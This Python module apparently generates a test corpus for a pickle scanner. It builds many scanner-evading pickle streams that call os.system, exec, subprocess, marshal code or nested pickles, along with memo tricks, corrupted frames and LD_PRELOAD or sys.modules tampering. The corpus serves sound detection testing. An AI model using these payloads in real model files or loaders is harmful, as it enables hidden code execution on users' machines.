"""Ways to write a call so that a reader of opcodes does not see it.

Every function yields `Trick`s: a technique's name and a whole stream that a loader would carry out. The targets
are a few well-known names, so that what is tested is the technique and not a list of names.
"""

import base64
import codecs
import collections
import pickle
import struct
import zlib

from gadgets import CODE, PATH, SOURCE, STATEMENT, WORD
from opcodes import TEXTS, Ops, arguments, beside, binunicode, built, call, called, global_line, mapping, name, short_binunicode, stream, string, text, unframed, unicode_line, value

Trick = collections.namedtuple("Trick", "technique stream protocol subject note")

TARGETS = [("os", "system", (WORD,), "os.system"), ("builtins", "exec", (STATEMENT,), "builtins.exec"), ("subprocess", "getoutput", (WORD,), "subprocess.getoutput")]
HONEST = {"weights": [0.5, -1.25, 3.0], "name": "linear", "bias": True}


def _trick(technique, data, protocol, subject, note=""):
    return Trick(technique, bytes(data), protocol, subject, note)


def spellings():
    """Each way to write a call of a global, for each target."""
    for module, attribute, args, subject in TARGETS:
        inside = {protocol: b"".join(value(item, protocol) for item in args) for protocol in range(6)}
        yield _trick("call-global-reduce", stream(call(module, attribute, args, 0), 0), 0, subject)
        yield _trick("call-global-tuple1-reduce", stream(called(global_line(module, attribute), args, 2), 2), 2, subject)
        yield _trick("call-stack-global", stream(call(module, attribute, args, 4), 4), 4, subject)
        yield _trick("call-stack-global-unframed", unframed(call(module, attribute, args, 4), 4), 4, subject)
        yield _trick("call-inst", b"(" + inside[0] + b"i" + module.encode() + b"\n" + attribute.encode() + b"\n.", 0, subject)
        yield _trick("call-obj", stream(b"(" + global_line(module, attribute) + inside[2] + b"o", 2), 2, subject)
        yield _trick("call-obj-popped", stream(beside(b"(" + global_line(module, attribute) + inside[4] + b"o", HONEST, 4), 4), 4, subject, "the result is dropped")
        yield _trick("call-inst-popped", b"(" + inside[0] + b"i" + module.encode() + b"\n" + attribute.encode() + b"\n0N.", 0, subject, "the result is dropped")
        yield _trick("call-reduce-popped", stream(beside(call(module, attribute, args, 4), HONEST, 4), 4), 4, subject, "the result is dropped")
        yield _trick("call-pop-mark", stream(b"(" + call(module, attribute, args, 4) + b"1" + value(HONEST, 4), 4), 4, subject, "POP_MARK drops the result")
        yield _trick("call-reduce-with-list", stream(global_line(module, attribute) + b"]" + inside[2] + b"aR", 2), 2, subject, "the Python unpickler takes a list of arguments")
        yield _trick("call-in-honest-argument", stream(call("collections", "OrderedDict", ([("a", call(module, attribute, args, 4))],), 4), 4), 4, subject)
        yield _trick("call-as-key", stream(Ops(b"}" + call(module, attribute, args, 4) + b"Ns"), 4), 4, subject)
        yield _trick("call-in-state", stream(built(call("argparse", "Namespace", (), 4), {"lr": call(module, attribute, args, 4)}, 4), 4), 4, subject)
        deep = Ops(b"]" * 200 + call(module, attribute, args, 4) + b"a" * 200)
        yield _trick("call-deep-in-lists", stream(deep, 4), 4, subject)
        yield _trick("call-in-persistent-id", stream(Ops(arguments(("storage", call(module, attribute, args, 2), "0", "cpu", 1), 2) + b"Q"), 2), 2, subject, "evaluated before the loader is asked")
        yield _trick("import-only", stream(beside(name(module, attribute, 4), HONEST, 4), 4), 4, subject, "imported and not called")
    yield _trick("call-newobj", stream(Ops(name("types", "FunctionType", 4) + arguments((call("marshal", "loads", (CODE,), 4), {}), 4) + b"\x81"), 4), 4, "marshal.loads")
    yield _trick("call-newobj-ex", stream(Ops(name("types", "FunctionType", 4) + arguments((call("marshal", "loads", (CODE,), 4), {}), 4) + b"}\x92"), 4), 4, "marshal.loads")


def operands():
    """STACK_GLOBAL with its two names from every opcode for texts, through the memo and past decoys."""
    end = arguments((WORD,), 2) + b"R."
    forms = list(TEXTS)
    for number, form in enumerate(forms):
        other = forms[(number + 2) % len(forms)]
        yield _trick("stack-global-from-%s" % form.lower(), TEXTS[form]("os") + TEXTS[other]("system") + b"\x93" + end, 4, "os.system")
    yield _trick("names-escaped-string", b"S'\\x6f\\x73'\nS'\\163ystem'\n\x93" + end, 4, "os.system")
    yield _trick("names-escaped-unicode", b"V\\u006f\\u0073\nV\\u0073ystem\n\x93" + end, 4, "os.system")
    for label, put, get in [
        ("put", lambda n: b"p%d\n" % n, lambda n: b"g%d\n" % n),
        ("binput", lambda n: b"q" + bytes([n]), lambda n: b"h" + bytes([n])),
        ("long-binput", lambda n: b"r" + struct.pack("<I", n * 70000), lambda n: b"j" + struct.pack("<I", n * 70000)),
        ("mixed-put-get", lambda n: b"p%d\n" % n, lambda n: b"j" + struct.pack("<I", n)),
    ]:
        memo = short_binunicode("system") + put(1) + b"0" + short_binunicode("os") + put(2) + b"0" + short_binunicode("collections") + put(3) + b"0"
        yield _trick("memo-" + label, b"\x80\x04" + memo + get(2) + get(1) + b"\x93" + end, 4, "os.system")
    memo = short_binunicode("system") + b"\x940" + short_binunicode("os") + b"\x940" + short_binunicode("math") + b"\x940"
    yield _trick("memo-memoize", b"\x80\x04" + memo + b"h\x01h\x00\x93" + end, 4, "os.system")
    yield _trick("memo-overwritten", b"\x80\x04" + short_binunicode("math") + b"q\x000" + short_binunicode("os") + b"q\x000h\x00" + short_binunicode("system") + b"\x93" + end, 4, "os.system", "the first value of the slot is a decoy")
    yield _trick("memo-of-callable", b"\x80\x04" + global_line("os", "system") + b"q\x050" + value(HONEST, 4) + b"0h\x05" + end, 4, "os.system")
    yield _trick("memo-of-arguments", b"\x80\x04" + arguments((WORD,), 4) + b"q\x000" + global_line("os", "system") + b"h\x00R.", 4, "os.system")
    yield _trick("decoys-popped", b"\x80\x04" + short_binunicode("os") + short_binunicode("system") + short_binunicode("collections") + short_binunicode("OrderedDict") + b"00\x93" + end, 4, "os.system")
    yield _trick("decoys-pop-mark", b"\x80\x04" + short_binunicode("os") + short_binunicode("system") + b"(" + short_binunicode("collections") + short_binunicode("OrderedDict") + b"1\x93" + end, 4, "os.system")
    yield _trick("dup-of-name", b"\x80\x04" + short_binunicode("code") + b"2\x930N" + b"0" + short_binunicode("os") + b"2q\x000" + short_binunicode("system") + b"\x93" + end, 4, "os.system")
    yield _trick("dup-of-callable", b"\x80\x02" + global_line("os", "system") + b"2" + end[:-1] + b"0" + end, 2, "os.system")
    yield _trick("missing-memo-key-behind", b"\x80\x04" + call("os", "system", (WORD,), 4) + b"h\x63" + short_binunicode("os") + b"\x93.", 4, "os.system")
    yield _trick("typed-memo-behind", b"\x80\x04" + call("os", "system", (WORD,), 4) + b"K\x2a\x94" + short_binunicode("os") + b"\x93.", 4, "os.system")
    for size, code in [(1, 200), (2, 600), (4, 70000)]:
        register = call("copyreg", "add_extension", ("os", "system", code), 2)
        opcode = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[size] + code.to_bytes(size, "little")
        yield _trick("extension-%d" % size, b"\x80\x02" + register + b"0" + opcode + end, 2, "os.system")
    yield _trick("extension-unregistered", b"\x80\x02\x82\x07" + end, 2, None, "what the code stands for is not in the stream")


def dotted():
    """Walks by dots out of modules that hold others."""
    end = arguments((WORD,), 4) + b"R"
    for module, walk, subject in [
        ("collections", "_sys.modules.get", "sys.modules.get"),
        ("logging", "os.system", "os.system"),
        ("torch.serialization", "os.system", "os.system"),
        ("sklearn", "os.system", "os.system"),
        ("random", "_os.system", "os.system"),
        ("shutil", "os.system", "os.system"),
        ("posixpath", "os.system", "os.system"),
        ("genericpath", "os.system", "os.system"),
        ("os.path", "os.system", "os.system"),
        ("importlib", "resources.os.system", "os.system"),
        ("pathlib", "os.system", "os.system"),
        ("enum", "sys.modules.get", "sys.modules.get"),
        ("decimal", "_sys.modules.get", None),
        ("copyreg", "__builtins__.get", None),
        ("numpy", "os.system", None),
        ("numpy.lib.format", "pickle.loads", "pickle.loads"),
        ("torch", "os.system", "os.system"),
        ("torch._utils", "sys.modules.get", None),
        ("joblib.numpy_pickle", "os.system", "os.system"),
        ("pandas.io.pickle", "pickle.loads", None),
        ("datetime", "sys.modules.get", None),
        ("argparse", "_os.system", "os.system"),
        ("uuid", "os.system", "os.system"),
        ("inspect", "builtins.exec", None),
        ("collections.abc", "__loader__.load_module", None),
        ("builtins", "object.__subclasses__", None),
        ("builtins", "str.__class__.__base__.__subclasses__", None),
        ("functools", "partial.__class__.mro", None),
        ("builtins", "print.__self__.exec", None),
        ("builtins", "len.__self__.eval", None),
        ("os", "_wrap_close.__init__.__globals__.get", None),
        ("collections", "namedtuple.__globals__.get", None),
        ("codecs", "open.__builtins__.get", None),
    ]:
        yield _trick("dotted-walk", stream(Ops(name(module, walk, 4) + end), 4), 4, subject, "%s.%s" % (module, walk))
    # Python 2's names are mapped below protocol 3 only.
    yield _trick("python2-name", stream(Ops(global_line("__builtin__", "eval") + arguments((SOURCE,), 2) + b"R"), 2), 2, "builtins.eval")
    yield _trick("python2-name-commands", stream(Ops(global_line("commands", "getstatusoutput") + arguments((WORD,), 2) + b"R"), 2), 2, "subprocess.getstatusoutput")
    yield _trick("python2-name-cpickle", stream(Ops(global_line("cPickle", "loads") + string("cos\nsystem\n(S'echo weighbridge'\ntR.") + b"\x85R"), 2), 2, "pickle.loads")
    yield _trick("python2-name-whichdb", stream(Ops(global_line("anydbm", "open") + arguments((PATH,), 2) + b"R"), 2), 2, "dbm.open")
    yield _trick("python2-name-urllib", stream(Ops(global_line("urllib2", "urlopen") + arguments((PATH,), 2) + b"R"), 2), 2, "urllib.request.urlopen")


def folded():
    """Names and callables that are computed while loading."""
    protocol = 4

    def os_module():
        return call("importlib", "import_module", ("os",), protocol)

    def attribute_of(thing, attribute):
        return call("builtins", "getattr", (thing, attribute), protocol)

    def end(function, note="", technique=None, subject="os.system", args=(WORD,)):
        return _trick(technique, stream(called(function, args, protocol), protocol), protocol, subject, note)

    join = called(attribute_of("", "join"), (["sys", "tem"],), protocol)
    names = [
        ("join", join),
        ("concat", call("operator", "concat", ("sys", "tem"), protocol)),
        ("add", call("operator", "add", ("sys", "tem"), protocol)),
        ("mod", call("operator", "mod", ("%stem", ("sys",)), protocol)),
        ("rot13", call("codecs", "decode", (codecs.encode("system", "rot13"), "rot13"), protocol)),
        ("hex", call("codecs", "decode", (call("codecs", "decode", (b"73797374656d", "hex"), protocol), "ascii"), protocol)),
        ("base64", call("codecs", "decode", (call("base64", "b64decode", (base64.b64encode(b"system"),), protocol), "ascii"), protocol)),
        ("reversed", call("operator", "getitem", ("metsys", call("builtins", "slice", (None, None, -1), protocol)), protocol)),
        ("lower", call("builtins", "str.lower", ("SYSTEM",), protocol)),
        ("replace", call("builtins", "str.replace", ("sXstem", "X", "y"), protocol)),
        ("strip", call("builtins", "str.strip", ("  system ",), protocol)),
        ("format", call("builtins", "str.format", ("{}tem", "sys"), protocol)),
        ("chr-join", called(attribute_of("", "join"), (call("builtins", "map", (name("builtins", "chr", protocol), list(b"system")), protocol),), protocol)),
        ("fromhex", call("codecs", "decode", (call("builtins", "bytes.fromhex", ("73797374656d",), protocol),), protocol)),
        ("bytes-decode", call("builtins", "bytes.decode", (b"system",), protocol)),
        ("str-of-bytes", call("builtins", "str", (b"system", "ascii"), protocol)),
        ("zlib", call("codecs", "decode", (call("zlib", "decompress", (zlib.compress(b"system"),), protocol),), protocol)),
        ("split", call("operator", "getitem", (call("builtins", "str.split", ("a,system", ","), protocol), 1), protocol)),
        ("removeprefix", call("builtins", "str.removeprefix", ("xsystem", "x"), protocol)),
    ]
    for label, folded_name in names:
        yield end(attribute_of(os_module(), folded_name), technique="folded-name-" + label)
        # The same as operands of STACK_GLOBAL.
        yield _trick("folded-operand-" + label, b"\x80\x04" + short_binunicode("os") + folded_name + b"\x93" + arguments((WORD,), 4) + b"R.", protocol, "os.system")
    module = called(attribute_of("", "join"), (["o", "s"],), protocol)
    yield end(attribute_of(call("importlib", "import_module", (module,), protocol), "system"), technique="folded-module")
    yield end(attribute_of(call("builtins", "__import__", ("os",), protocol), "system"), technique="resolved-import")
    yield end(called(call("operator", "attrgetter", ("system",), protocol), (os_module(),), protocol), technique="resolved-attrgetter")
    yield end(called(call("_operator", "attrgetter", ("system",), protocol), (call("builtins", "__import__", ("os",), protocol),), protocol), technique="resolved-attrgetter-of-c-module")
    yield _trick("resolved-methodcaller", stream(called(call("operator", "methodcaller", ("system", WORD), protocol), (os_module(),), protocol), protocol), protocol, "importlib.import_module")
    yield end(call("pkgutil", "resolve_name", ("os:system",), protocol), technique="resolved-resolve-name", subject="pkgutil.resolve_name")
    yield end(call("pydoc", "locate", ("os.system",), protocol), technique="resolved-locate", subject="pydoc.locate")
    yield end(call("operator", "getitem", (name("builtins", "__dict__", protocol), "eval"), protocol), technique="resolved-builtins-dict", subject=None, args=(SOURCE,))
    yield end(call("builtins", "dict.get", (call("builtins", "globals", (), protocol), "__builtins__"), protocol), technique="resolved-globals", subject="builtins.globals")
    yield end(attribute_of(call("operator", "getitem", (name("sys", "modules", protocol), "os"), protocol), "system"), technique="resolved-sys-modules", subject=None)
    yield end(attribute_of(called(name("collections", "_sys.modules.get", protocol), ("os",), protocol), "system"), technique="resolved-modules-get", subject=None)
    yield end(call("torch._utils", "_import_dotted_name", ("os.system",), protocol), technique="resolved-torch-dotted-name", subject="torch._utils._import_dotted_name")
    yield end(attribute_of(name("builtins", "str", protocol), "__class__"), technique="resolved-class", subject=None, args=("C", (), {}), note="makes a class while loading")
    subclasses = called(attribute_of(name("builtins", "object", protocol), "__subclasses__"), (), protocol)
    yield end(call("operator", "getitem", (subclasses, 140), protocol), technique="resolved-subclasses", subject=None)
    yield end(attribute_of(name("builtins", "print", protocol), "__self__"), technique="resolved-self", subject=None, args=("x",))
    yield end(call("numpy.core", "_ufunc_reconstruct", ("os", "system"), protocol), technique="resolved-ufunc-reconstruct")
    yield end(call("numpy._core", "_ufunc_reconstruct", ("os", "system"), protocol), technique="resolved-ufunc-reconstruct")
    yield end(call("logging.config", "_resolve", ("os.system",), protocol), technique="resolved-logging", subject="logging.config._resolve")
    yield end(call("xmlrpc.server", "resolve_dotted_attribute", (os_module(), "system"), protocol), technique="resolved-dotted-attribute", subject="xmlrpc.server.resolve_dotted_attribute")


def applied():
    """Callables that others call for the stream."""
    protocol = 4
    system = name("os", "system", protocol)
    one = [WORD]

    def whole(technique, ops, subject="os.system", note=""):
        return _trick(technique, stream(ops, protocol), protocol, subject, note)

    yield whole("applied-partial", called(call("functools", "partial", (system, WORD), protocol), (), protocol))
    yield whole("applied-partial-state", called(built(Ops(name("functools", "partial", protocol) + arguments((name("builtins", "print", protocol),), protocol) + b"\x81"), (system, (WORD,), {}, {}), protocol), (), protocol), note="the state replaces the function")
    yield whole("applied-map", call("builtins", "list", (call("builtins", "map", (system, one), protocol),), protocol))
    yield whole("applied-map-of-set", call("builtins", "set", (call("builtins", "map", (system, one), protocol),), protocol))
    yield whole("applied-map-newobj", Ops(name("builtins", "tuple", protocol) + arguments((Ops(name("builtins", "map", protocol) + arguments((system, one), protocol) + b"\x81"),), protocol) + b"\x81"))
    yield whole("applied-filter", call("builtins", "list", (call("builtins", "filter", (system, one), protocol),), protocol))
    yield whole("applied-starmap", call("collections", "deque", (call("itertools", "starmap", (system, [(WORD,)]), protocol),), protocol))
    yield whole("applied-accumulate", call("builtins", "list", (call("itertools", "accumulate", (["a", "b"], name("os", "execlp", protocol)), protocol),), protocol), subject="os.execlp")
    yield whole("applied-takewhile", call("builtins", "list", (call("itertools", "takewhile", (system, one), protocol),), protocol))
    yield whole("applied-groupby", call("builtins", "list", (call("itertools", "groupby", (one, system), protocol),), protocol))
    yield whole("applied-reduce", call("functools", "reduce", (name("builtins", "getattr", protocol), [call("importlib", "import_module", ("os",), protocol), "system"]), protocol), subject="importlib.import_module")
    partial = Ops(name("functools", "partial", protocol) + arguments((name("builtins", "sorted", protocol),), protocol) + b"\x81")
    yield whole("applied-sorted-key", called(built(partial, (name("builtins", "sorted", protocol), (one,), {"key": system}, {}), protocol), (), protocol))
    yield whole("applied-max-key-newobj-ex", Ops(name("builtins", "max", protocol) + arguments((one,), protocol) + mapping([("key", system)], protocol) + b"\x92"), note="fails in CPython after the name was imported")
    yield whole("applied-iter-sentinel", call("builtins", "list", (call("builtins", "iter", (name("os", "getpid", protocol), 0), protocol),), protocol), subject="os.getpid")
    yield whole("applied-defaultdict", call("operator", "getitem", (call("collections", "defaultdict", (name("os", "fork", protocol),), protocol), "x"), protocol), subject="os.fork")
    yield whole("applied-defaultdict-format-map", call("builtins", "str.format_map", ("{x}", call("collections", "defaultdict", (name("os", "fork", protocol),), protocol)), protocol), subject="os.fork")
    yield whole("applied-re-sub", call("re", "sub", ("x", system, "x"), protocol))
    yield whole("applied-operator-call", call("operator", "call", (system, WORD), protocol))
    yield whole("applied-methodtype", called(call("types", "MethodType", (system, WORD), protocol), (), protocol))
    yield whole("applied-property", call("builtins", "property.__get__", (call("builtins", "property", (system,), protocol), WORD), protocol))
    yield whole("applied-cached-property", call("functools", "cached_property", (system,), protocol))
    yield whole("applied-exitstack", call("contextlib", "ExitStack.callback", (call("contextlib", "ExitStack", (), protocol), system, WORD), protocol))
    yield whole("applied-finalize", call("weakref", "finalize", (name("collections", "OrderedDict", protocol), system, WORD), protocol))
    yield whole("applied-atexit", call("atexit", "register", (system, WORD), protocol))
    yield whole("applied-thread", call("_thread", "start_new_thread", (system, (WORD,)), protocol))
    yield whole("applied-timer", built(call("threading", "Timer", (0, system, [WORD]), protocol), {}, protocol))
    yield whole("applied-newobj-of-copyreg", call("copyreg", "__newobj__", (name("types", "FunctionType", protocol), call("marshal", "loads", (CODE,), protocol), {}), protocol), subject="marshal.loads")
    yield whole("applied-reconstructor", call("copyreg", "_reconstructor", (name("subprocess", "Popen", protocol), name("builtins", "object", protocol), None), protocol), subject="subprocess.Popen")
    yield whole("applied-torch-rebuild", call("torch._tensor", "_rebuild_from_type_v2", (system, name("builtins", "str", protocol), (WORD,), {}), protocol))
    yield whole("applied-numpy-vectorize", called(call("numpy", "vectorize", (system,), protocol), ([WORD],), protocol))
    yield whole("applied-numpy-apply", call("numpy", "apply_along_axis", (system, 0, [WORD]), protocol))
    yield whole("applied-pandas-map", called(call("builtins", "getattr", (call("pandas", "Series", ([WORD],), protocol), "map"), protocol), (system,), protocol))
    yield whole("applied-function-transformer", built(call("sklearn.preprocessing._function_transformer", "FunctionTransformer", (), protocol), {"func": system}, protocol), note="runs when the model is used")
    yield whole("applied-module-hook", built(Ops(name("torch.nn.modules.linear", "Linear", protocol) + b")\x81"), {"_forward_hooks": {0: system}}, protocol), note="runs when the model is used")
    yield whole("applied-make-dataclass", call("dataclasses", "make_dataclass", ("C", ["x"]), protocol), subject="dataclasses.make_dataclass", note="evaluates source that it makes")


def written():
    """BUILD, SETITEM and APPEND used to call or to change what was imported."""
    protocol = 4

    def whole(technique, ops, subject, note=""):
        return _trick(technique, stream(ops, protocol), protocol, subject, note)

    instance = Ops(name("argparse", "Namespace", protocol) + b")\x81")
    system = name("os", "system", protocol)
    yield whole("build-setstate-of-instance", built(built(instance, {"__setstate__": system}, protocol), WORD, protocol), "os.system", "the second BUILD calls it")
    yield whole("build-append-of-instance", built(instance, {"append": system}, protocol) + b"(" + value(WORD, protocol) + b"e", "os.system", "APPENDS calls it")
    yield whole("build-extend-of-instance", built(instance, {"extend": system}, protocol) + b"(" + value(WORD, protocol) + b"e", "os.system", "APPENDS calls it")
    yield whole("build-add-of-instance", built(instance, {"add": system}, protocol) + b"(" + value(WORD, protocol) + b"\x90", "os.system", "ADDITEMS calls it")
    yield whole("build-append-one", built(instance, {"append": system}, protocol) + value(WORD, protocol) + b"a", "os.system", "APPEND calls it")
    yield whole("build-of-module", built(name("sys", "modules", protocol), {}, protocol), "sys.modules")
    yield whole("build-of-function", built(name("numpy", "prod", protocol), (None, {"a": name("numpy", "ndarray", protocol)}), protocol), None, "an attribute of something imported")
    yield whole("build-of-class", built(name("collections", "OrderedDict", protocol), (None, {"__setitem__": system}), protocol), "os.system", "a method of a class is replaced")
    yield whole("build-dynamic-name", Ops(built(name("numpy", "prod", protocol), (None, {"a": system}), protocol) + b"0" + called(name("numpy", "prod.a", protocol), (WORD,), protocol)), "os.system")
    yield whole("build-builtins", built(name("numpy", "size", protocol), {"shape": name("numpy", "__builtins__", protocol)}, protocol), None)
    yield whole("setitem-modules", Ops(name("sys", "modules", protocol) + value("os", protocol) + name("subprocess", "Popen", protocol) + b"s"), "sys.modules")
    yield whole("setitems-modules-sys", Ops(name("sys", "modules", protocol) + b"(" + value("sys", protocol) + name("sys", "modules", protocol) + b"u0" + name("sys", "get", protocol) + arguments(("os",), protocol) + b"R"), "sys.modules", "afterwards `sys.get` is the dict's")
    yield whole("setitem-environ", Ops(name("os", "environ", protocol) + value("LD_PRELOAD", protocol) + value(PATH, protocol) + b"s"), "os.environ")
    yield whole("setitem-builtins", Ops(name("builtins", "__dict__", protocol) + value("len", protocol) + system + b"s"), None)
    yield whole("setitem-dispatch-table", Ops(name("copyreg", "dispatch_table", protocol) + name("builtins", "int", protocol) + system + b"s"), "copyreg.dispatch_table")
    yield whole("append-path", Ops(name("sys", "path", protocol) + value(PATH, protocol) + b"a"), "sys.path")
    yield whole("appends-meta-path", Ops(name("sys", "meta_path", protocol) + b"(" + value(PATH, protocol) + b"e"), "sys.meta_path")
    yield whole("append-warnings-filters", Ops(name("warnings", "filters", protocol) + value(PATH, protocol) + b"a"), "warnings.filters")
    yield whole("setitem-of-array", Ops(name("numpy", "core.multiarray.typeinfo", protocol) + value("x", protocol) + system + b"s"), "os.system")
    yield whole("build-property-setter", built(Ops(name("logging.handlers", "MemoryHandler", protocol) + b")\x81"), {"target": system}, protocol), "os.system")
    yield whole("build-lru-cache", built(name("functools", "lru_cache", protocol), {"__wrapped__": system}, protocol), "os.system")


def streams():
    """What stands around a payload in its stream, and where the stream breaks."""
    for protocol in (0, 2, 4):
        payload = call("os", "system", (WORD,), protocol)
        whole = stream(payload, protocol)
        honest = stream(value(HONEST, protocol), protocol)
        rows = [
            ("stream-second-of-two", honest + whole, ""),
            ("stream-behind-200", honest * 200 + whole, ""),
            ("stream-before-honest", whole + honest, ""),
            ("stream-garbage-before", b"\xff\xfe\xfd\xfc" * 4 + whole, "for loaders that seek"),
            ("stream-garbage-between", honest + b"\xf0\xf1\xf2\xf3" + whole, "for loaders that seek"),
            ("stream-garbage-behind", whole + b"\xff" * 64, ""),
            ("stream-zeros-between", honest + bytes(4096) + whole, "for loaders that seek"),
            ("stream-no-stop", whole[:-1], "the payload runs before the end is missed"),
            ("stream-unknown-opcode-behind", whole[:-1] + b"\xff\xff\xff", ""),
            ("stream-length-lies-behind", whole[:-1] + b"X\xff\xff\xff\x7fbroken", ""),
            ("stream-stack-underflow-behind", whole[:-1] + b"000000.", ""),
            ("stream-bad-int-behind", whole[:-1] + b"Ibroken\n.", ""),
            ("stream-bad-string-behind", whole[:-1] + b"Sbroken\n.", ""),
            ("stream-bad-utf8-behind", whole[:-1] + b"X\x02\x00\x00\x00\xff\xff.", ""),
            ("stream-bad-get-behind", whole[:-1] + b"gbroken\n.", ""),
            ("stream-bad-protocol-behind", whole[:-1] + b"\x80\xff.", ""),
            ("stream-mark-missing-behind", whole[:-1] + b"t.", ""),
            ("stream-persistent-id-behind", whole[:-1] + b"Pnone\n.", ""),
            ("stream-buffer-behind", whole[:-1] + b"\x97.", "NEXT_BUFFER without buffers"),
            ("stream-many-protocols", b"\x80\x02" * 50 + whole, ""),
            ("stream-protocol-switched", b"\x80\x05" + b"N0" + whole, ""),
            ("stream-much-data-before", (b"\x80\x04" if protocol == 4 else b"") + binunicode("x" * 300000) + b"0" + payload + b".", ""),
            ("stream-much-data-behind", unframed(Ops(payload + b"0" + binunicode("x" * 300000)), protocol), ""),
            ("stream-many-opcodes-before", (b"\x80\x02" if protocol else b"") + b"N0" * 50000 + payload + b".", ""),
            ("stream-expansion-before", (b"\x80\x02" if protocol else b"") + b"N" + b"2\x86" * 40 + b"0" + payload + b".", "nested pairs double 40 times"),
            ("stream-cycle-before", (b"\x80\x02" if protocol else b"") + b"]q\x00h\x00a0" + payload + b".", ""),
            ("stream-all-number-opcodes-before", b"\x80\x05F1.5\n0L1L\n0I01\n0\x8a\x01\x010\x8b\x01\x00\x00\x00\x010\x96\x01\x00\x00\x00\x00\x00\x00\x00x0" + payload + b".", ""),
        ]
        for technique, made, note in rows:
            yield _trick(technique, made, protocol, "os.system", note)
    payload = call("os", "system", (WORD,), 4)
    yield _trick("frame-too-long", b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00" + payload + b".", 4, "os.system")
    yield _trick("frame-nested", b"\x80\x04\x95" + struct.pack("<Q", len(payload) + 10) + b"\x95" + struct.pack("<Q", len(payload) + 1) + payload + b".", 4, "os.system")
    yield _trick("frame-of-nothing", b"\x80\x04" + b"\x95" + bytes(8) + payload + b".", 4, "os.system")
    yield _trick("frame-split", b"\x80\x04\x95" + struct.pack("<Q", len(payload)) + payload + b"\x95" + struct.pack("<Q", 1) + b".", 4, "os.system")
    hidden = b"0" + global_line("os", "system") + b"(" + string(WORD) + b"tR."
    yield _trick("frame-boundary", b"\x80\x04\x95" + struct.pack("<Q", 6) + b"\x8c\x0aaaaa" + b"bbbbbb" + b"0N.!" + hidden, 4, "os.system", "runs when read from a file, not when read from bytes")
    yield _trick("legacy-magic-by-call", b"\x80\x02" + global_line("__builtin__", "eval") + arguments(("0x1950a86a20f9469cfc6c",), 2) + b"R.", 2, "builtins.eval", "the magic number of torch's old container is computed")
    magic = stream(Ops(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19"), 2)
    legacy = magic + stream(value(1001, 2), 2) + stream(value({"protocol_version": 1001, "little_endian": True}, 2), 2)
    yield _trick("torch-legacy", legacy + stream(call("os", "system", (WORD,), 2), 2) + stream(value([], 2), 2), 2, "os.system", "the payload is the fourth of five pickles")
    yield _trick("torch-legacy-last", legacy + stream(value({}, 2), 2) + stream(call("os", "system", (WORD,), 2), 2), 2, "os.system", "the payload is the last of five pickles")


def nested():
    """A pickle or code inside the pickle."""
    protocol = 4
    inner = stream(call("os", "system", (WORD,), protocol), protocol)
    twice = stream(call("pickle", "loads", (inner,), protocol), protocol)

    def whole(technique, ops, subject, note=""):
        return _trick(technique, stream(ops, protocol), protocol, subject, note)

    yield whole("nested-loads", call("pickle", "loads", (inner,), protocol), "pickle.loads")
    yield whole("nested-loads-twice", call("pickle", "loads", (twice,), protocol), "pickle.loads")
    yield whole("nested-loads-zlib", call("pickle", "loads", (call("zlib", "decompress", (zlib.compress(inner, 9),), protocol),), protocol), "pickle.loads")
    yield whole("nested-loads-base64", call("pickle", "loads", (call("base64", "b64decode", (base64.b64encode(inner),), protocol),), protocol), "pickle.loads")
    yield whole("nested-unpickler", called(call("operator", "methodcaller", ("load",), protocol), (call("_pickle", "Unpickler", (call("_io", "BytesIO", (inner,), protocol),), protocol),), protocol), "pickle.Unpickler")
    yield whole("nested-load-from-bytes", call("torch.storage", "_load_from_bytes", (inner,), protocol), "os.system")
    yield whole("nested-code", call("builtins", "exec", (call("marshal", "loads", (call("zlib", "decompress", (zlib.compress(CODE, 9),), protocol),), protocol),), protocol), "builtins.exec")
    yield whole("nested-exec-compile", call("builtins", "exec", (call("builtins", "compile", (STATEMENT, "x", "exec"), protocol),), protocol), "builtins.exec")
    yield whole("nested-exec-base64", call("builtins", "exec", (call("base64", "b64decode", (base64.b64encode(STATEMENT.encode()),), protocol),), protocol), "builtins.exec")
    yield whole("nested-function", called(call("types", "FunctionType", (call("marshal", "loads", (CODE,), protocol), {}), protocol), (), protocol), "types.FunctionType")
    yield whole("nested-cloudpickle", called(call("cloudpickle.cloudpickle", "_make_function", (call("marshal", "loads", (CODE,), protocol), {}, None, None, None), protocol), (), protocol), "cloudpickle.cloudpickle._make_function")
    yield whole("nested-dill", called(call("dill._dill", "_create_function", (call("marshal", "loads", (CODE,), protocol), {}), protocol), (), protocol), "dill._dill._create_function")
    yield whole("unknown-package-called", call("acme_layers.backdoor", "run", (WORD,), protocol), "acme_layers.backdoor.run", "a package that nobody knows")
    yield whole("unknown-package-by-obj", Ops(b"(" + global_line("acme_layers", "run") + value(WORD, protocol) + b"o"), "acme_layers.run")
    yield whole("unknown-name-of-known-package", call("torch.nn.modules.nonexistent", "run", (WORD,), protocol), "torch.nn.modules.nonexistent.run")


FAMILIES = [
    ("spellings of a call", spellings), ("operands, memo, decoys, extensions", operands), ("dotted walks, names of Python 2", dotted), ("computed names, resolvers", folded), ("callables that others call", applied),
    ("state, items and attributes", written), ("what stands around the payload", streams), ("pickles and code inside", nested),
]

# A few payloads for containers: one form of each protocol, a broken stream, and one that hides its result.
PAYLOADS = [
    ("p0", stream(call("os", "system", (WORD,), 0), 0), 0),
    ("p2", stream(beside(call("os", "system", (WORD,), 2), HONEST, 2), 2), 2),
    ("p4", stream(beside(call("os", "system", (WORD,), 4), HONEST, 4), 4), 4),
    ("broken", stream(call("os", "system", (WORD,), 4), 4)[:-1] + b"X\xff\xff\xff\x7f", 4),
]
HONEST_PICKLES = [
    ("p0", stream(value(HONEST, 0), 0), 0),
    ("p2", stream(call("collections", "OrderedDict", ([("layer.weight", [0.5, 1.5]), ("layer.bias", [0.0])],), 2), 2), 2),
    ("p4", stream(value({"steps": list(range(300)), "text": "call os.system only if you mean it"}, 4), 4), 4),
    ("p5", pickle.dumps({"epoch": 3, "loss": 0.25, "labels": ("a", "b")}, 5), 5),
]
